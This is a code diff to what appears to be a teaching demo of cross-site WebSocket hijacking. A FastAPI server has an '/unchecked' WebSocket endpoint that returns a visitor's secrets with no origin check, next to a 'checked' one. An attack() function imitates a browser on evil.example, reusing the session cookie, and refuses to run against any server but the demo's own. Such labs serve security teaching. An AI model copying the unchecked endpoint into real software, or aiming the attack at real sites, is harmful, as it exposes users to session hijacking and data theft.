@@ -47,7 +47,7 @@ async def enter(nickname: Annotated[str, Form()]) -> RedirectResponse:
 @app.websocket("/unchecked")
 async def unchecked(websocket: WebSocket, visitor: Visitor = None) -> None:
     if visitor not in visitors:
-        raise HTTPException(401)
+        raise HTTPException(401, headers={"WWW-Authenticate": "Bearer"})
     await websocket.accept()
     await websocket.send_text(f"The secrets of {visitors[visitor]}")
     await websocket.close()
@@ -80,10 +80,12 @@ async def evil() -> HTMLResponse:
     </script>""")
 
 
-async def attack(address: str = "127.0.0.1:8000") -> None:
+async def attack(address: str) -> None:
     """Send what a browser sends for a page of http://evil.example."""
     async with httpx.AsyncClient(trust_env=False) as browser:
         await browser.post(f"http://{address}/enter", data={"nickname": "ada"})
+        if "visitor" not in browser.cookies:
+            sys.exit("No attack: this is not the server of attack_cswsh.")
         cookie = f"visitor={browser.cookies['visitor']}"
     for path in ("unchecked", "checked"):
         try:
@@ -99,7 +101,8 @@ async def attack(address: str = "127.0.0.1:8000") -> None:
 
 
 if __name__ == "__main__":
+    address = sys.argv[1] if len(sys.argv) > 1 else "127.0.0.1:8000"
     try:
-        asyncio.run(attack(*sys.argv[1:2]))
+        asyncio.run(attack(address))
     except (OSError, httpx.HTTPError, WebSocketException) as error:
         sys.exit(f"No attack: {error}. Is the server running?")
